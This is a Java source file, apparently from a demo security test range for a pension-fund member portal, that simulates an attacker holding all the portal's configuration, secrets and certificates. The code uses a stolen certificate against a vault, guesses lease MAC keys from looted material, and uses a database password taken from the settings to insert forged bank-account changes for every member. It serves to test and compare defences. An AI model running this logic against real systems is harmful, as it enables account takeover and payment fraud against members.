package be.mijnfonds.range.row;

import be.mijnfonds.demo.visitor.Bundle;
import be.mijnfonds.demo.visitor.Visit;
import be.mijnfonds.protocol.AdmitAsk;
import be.mijnfonds.protocol.LeasedAsk;
import be.mijnfonds.protocol.MarkAsk;
import be.mijnfonds.protocol.Via;
import be.mijnfonds.range.aim.Ours;
import be.mijnfonds.range.aim.Plain;
import be.mijnfonds.range.row.Facts.Control;
import be.mijnfonds.range.row.StolenCertificate.Answer;
import be.mijnfonds.range.scan.Besides;
import be.mijnfonds.seal.BundleId;
import be.mijnfonds.seal.Category;
import be.mijnfonds.seal.Context;
import be.mijnfonds.seal.Fund;
import be.mijnfonds.seal.LeaseId;
import be.mijnfonds.seal.LeaseMac;
import be.mijnfonds.seal.Mark;
import be.mijnfonds.seal.Ref;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.DriverManager;
import java.sql.SQLException;
import java.util.ArrayList;
import java.util.List;
import java.util.Properties;
import java.util.Set;
import java.util.TreeSet;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;

/** Row 3: row 2, and every setting, secret and key store of the portal, used with both hands. */
final class Configuration implements Row {
    private static final int KEYS_TRIED = 50;

    @Override
    public Facts facts() {
        return new Facts(3, "Databases, settings and keys", """
                All of row 2, and every setting, password, key and certificate of the portal and its pages. With the \
                portal's certificate it asks the vault for what only the core's side may ask, reads lease ids out of the \
                vault's dump while members work, and asks under them with every key it has; with the portal's database \
                password it puts statements for another account into the inbox, in every member's name.""", 0, 0, Control.EVERYONE, true, Set.of())
                .with(Besides.PAPER, Besides.HALF);
    }

    @Override
    public Manner manner() {
        return Manner.CALM;
    }

    @Override
    public Taken ours(Ours ours, Attack attack) throws Exception {
        var before = ours.changes();
        attack.copy("vault-files", ours.vaultFiles());
        attack.copy("configuration", ours.configuration());
        var visits = ours.signIn(attack.working());
        var notes = Databases.take(ours, attack);
        notes.addAll(Dictionary.run(ours, attack));
        try (var stolen = new StolenCertificate(
                attack.loot().resolve("configuration"), ours.fund().ports().vault())) {
            notes.add("Verbs of the core's side: " + coreVerbs(ours, stolen, attack));
            notes.add("Under " + visits.size() + " leases of others: " + underLeases(ours, stolen, attack));
        }
        try (var stolen = new StolenCertificate(
                attack.loot().resolve("configuration"), ours.fund().ports().journal())) {
            var answer = stolen.get("/tile/entries/000");
            attack.keep("answers/journal", answer.body());
            notes.add("The vault's journal: " + answer.status() + ".");
        }
        var forged = new Forged(ours);
        for (var member : ours.members()) forged.put(ours.ref(member));
        notes.add(ours.members().size() + " forged bank changes in the inbox: " + forged.answer() + ".");
        return new Taken(ours.changes() - before, Taken.NOT_ASKED, Set.of(), notes);
    }

    private static String coreVerbs(Ours ours, StolenCertificate stolen, Attack attack) throws Exception {
        var ref = ours.ref(attack.thief());
        var said = new TreeSet<String>();
        var number = attack.thief().person().nationalNumber();
        var admit = new AdmitAsk(List.of(new AdmitAsk.Person(ref, number))).bytes();
        said.add("admit " + kept(attack, "answers/admit", stolen.post("admit", admit)));
        var mark = new MarkAsk(List.of(new MarkAsk.Marked(ref, new Mark(1_000_000, null)))).bytes();
        said.add("mark " + kept(attack, "answers/mark", stolen.post("mark", mark)));
        return String.join(", ", said) + ".";
    }

    /** Everyone's bundles under everyone's lease; the MAC's key is guessed, from the loot. */
    private static String underLeases(Ours ours, StolenCertificate stolen, Attack attack) throws Exception {
        var leases = leases(ours);
        var via = new Via(new byte[16], "range", "range", "range");
        var keys = keys(attack.loot());
        var said = new TreeSet<String>();
        // A refusal waits for the beat: many ask at once.
        try (var pool = Executors.newVirtualThreadPerTaskExecutor()) {
            var asking = new ArrayList<Future<Set<String>>>();
            for (var lease : leases) asking.add(pool.submit(() -> underLease(ours, stolen, attack, via, lease, keys)));
            for (var one : asking) said.addAll(one.get());
        }
        return leases.size() * keys.size() + " asks, " + String.join(", ", said) + ".";
    }

    private static Set<String> underLease(
            Ours ours, StolenCertificate stolen, Attack attack, Via via, Found lease, List<byte[]> keys)
            throws IOException, InterruptedException, SQLException {
        var body = Visit.unlock(bundles(ours, lease.ref())).canonical();
        var said = new TreeSet<String>();
        var n = 1_000;
        for (var key : keys) {
            n++;
            var mac = LeaseMac.ask(key, "unlock", lease.id(), n, body);
            var answer = stolen.post("unlock", new LeasedAsk(lease.id(), n, body, mac, via).bytes());
            said.add(kept(attack, "answers/unlock-" + lease.id().value() + "-" + n, answer));
        }
        return said;
    }

    private static String kept(Attack attack, String name, Answer answer) throws IOException {
        attack.keep(name, answer.body());
        return Integer.toString(answer.status());
    }

    private record Found(LeaseId id, Ref ref) {}

    private static List<Found> leases(Ours ours) throws SQLException {
        var found = new ArrayList<Found>();
        try (var connection = ours.fund().cluster("vault").cluster().connect("vault");
                var rows = connection
                        .createStatement()
                        .executeQuery("select id, ref from lease where not ended order by issued desc limit 20")) {
            while (rows.next()) found.add(new Found(new LeaseId(rows.getString(1)), new Ref(rows.getString(2))));
        }
        return found;
    }

    static List<Bundle> bundles(Ours ours, Ref ref) throws SQLException {
        var found = new ArrayList<Bundle>();
        try (var connection = ours.fund().cluster("main").cluster().connect("portal");
                var select = connection.prepareStatement("""
                        select category, bundle_id, version, enc, ciphertext from portal.bundle
                        where ref = ? and replaced_at is null limit 32
                        """)) {
            select.setString(1, ref.value());
            try (var rows = select.executeQuery()) {
                while (rows.next()) {
                    var context = new Context(
                            Fund.DEMO,
                            ref,
                            Category.of(rows.getString(1)),
                            new BundleId(rows.getString(2)),
                            rows.getLong(3));
                    found.add(new Bundle(context, rows.getBytes(4), rows.getBytes(5)));
                }
            }
        }
        return found;
    }

    private static List<byte[]> keys(Path loot) throws IOException {
        var all = Dictionary.keys(loot);
        return all.subList(0, Math.min(KEYS_TRIED, all.size()));
    }

    /** The password stands in the settings, as it does; with it every member's account is another. */
    @Override
    public Taken plain(Plain plain, Attack attack) throws Exception {
        attack.copy("configuration", plain.configuration());
        var notes = Databases.take(plain, attack);
        var settings = new Properties();
        try (var in = Files.newInputStream(attack.loot().resolve("configuration/twin.properties"))) {
            settings.load(in);
        }
        var changed = 0;
        try (var connection = DriverManager.getConnection(
                        settings.getProperty("spring.datasource.url"),
                        settings.getProperty("spring.datasource.username"),
                        settings.getProperty("spring.datasource.password"));
                var insert = connection.prepareStatement("""
                        insert into bank_change (member_number, asked_by, iban, holder, pause_until)
                        values (?, ?, ?, 'Somebody', current_date)
                        """)) {
            for (var member : plain.members()) {
                insert.setInt(1, member.person().number());
                insert.setInt(2, member.person().number());
                insert.setString(3, Forged.ACCOUNT);
                changed += insert.executeUpdate();
            }
        }
        notes.add(changed + " accounts changed with the database password out of the settings.");
        return new Taken(changed, Taken.NOT_ASKED, Set.of(), notes);
    }
}
